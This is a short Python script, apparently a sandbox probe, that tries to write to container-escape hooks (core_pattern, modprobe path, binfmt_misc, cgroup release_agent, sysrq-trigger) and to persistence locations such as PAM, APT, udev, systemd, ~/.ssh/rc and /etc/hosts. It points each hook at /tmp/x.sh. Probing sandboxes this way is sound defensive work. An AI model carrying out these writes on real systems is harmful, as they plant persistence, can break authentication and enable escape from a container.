# Container-escape hooks and less common persistence places, each written the way a script
# does it (open for writing, then write). Run as an unprivileged user every system file is
# refused; the attempt is the finding. The home-directory ones succeed.
import os

def write(path, text):
    try:
        with open(path, "w") as f:
            f.write(text)
        print("wrote", path)
    except OSError as e:
        print("refused", path, e.strerror)

# The host runs these as root: the core dump handler, the hotplug helper, modprobe's path,
# a binfmt_misc interpreter, the SysRq trigger, and a cgroup v1 release agent.
write("/proc/sys/kernel/core_pattern", "|/tmp/x.sh\n")
write("/sys/kernel/uevent_helper", "/tmp/x.sh\n")
write("/proc/sys/kernel/modprobe", "/tmp/x.sh\n")
write("/proc/sys/fs/binfmt_misc/register", ":x:M::MZ::/tmp/x.sh:\n")
write("/proc/sysrq-trigger", "b")
os.makedirs("/tmp/cap/cgrp/x", exist_ok=True)
write("/tmp/cap/cgrp/x/notify_on_release", "1")
write("/tmp/cap/cgrp/release_agent", "/tmp/x.sh\n")
# Persistence: APT and PAM hooks, the loader's search path, kernel modules at boot, udev
# rules, the login banner scripts, network hooks, ssh's per-login rc, a logout script.
home = os.environ["HOME"]
for path in ("/etc/apt/apt.conf.d/99update", "/etc/pam.d/common-auth", "/etc/ld.so.conf.d/x.conf",
             "/etc/modules-load.d/x.conf", "/etc/udev/rules.d/99-x.rules", "/etc/update-motd.d/99-x",
             "/etc/NetworkManager/dispatcher.d/99-x", "/etc/systemd/user/x.service",
             home + "/.ssh/rc", home + "/.bash_logout"):
    write(path, "/tmp/x.sh\n")
# Other system configuration: name resolution redirected, a kernel setting.
write("/etc/hosts", "127.0.0.1 updates.example.com\n")
write("/etc/sysctl.d/99-x.conf", "kernel.randomize_va_space = 0\n")
